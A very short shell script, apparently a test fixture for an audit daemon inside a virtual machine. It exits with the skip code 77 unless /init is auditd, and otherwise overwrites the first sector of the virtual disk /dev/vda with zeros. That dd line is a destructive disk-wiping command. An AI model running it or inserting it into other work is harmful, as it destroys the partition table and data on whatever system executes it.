#!/bin/sh
# Begins with the first disk.
[ /init -ef /usr/sbin/auditd ] || exit 77
dd if=/dev/zero of=/dev/vda bs=512 count=1
